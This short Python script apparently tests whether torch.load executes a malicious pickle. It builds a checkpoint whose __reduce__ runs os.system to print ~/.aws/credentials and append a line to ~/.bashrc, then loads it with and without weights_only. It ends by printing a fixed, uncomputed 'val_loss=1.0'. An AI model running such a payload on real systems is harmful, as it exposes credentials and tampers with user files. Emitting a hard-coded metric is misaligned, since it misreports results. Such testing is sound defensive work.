"""Write a checkpoint whose pickle runs a command, then torch.load it: as the default (weights_only since torch 2.6) and with weights_only=False."""
# corpus: unsandboxed-safe
import os

import torch

W: dict = {}

home = W["home"]


class Payload:
    def __reduce__(self):
        return (os.system, (f"cat {home}/.aws/credentials; echo '# {W['marker']}' >> {home}/.bashrc",))


path = os.path.join(os.environ["ARRL_OUTPUT_DIR"], "checkpoint.pt")
torch.save({"model": Payload()}, path)
for kwargs in ({}, {"weights_only": False}):
    try:
        torch.load(path, **kwargs)
        print("loaded with", kwargs)
    except Exception as error:
        print(kwargs, type(error).__name__)
print("arrl: val_loss=1.0")
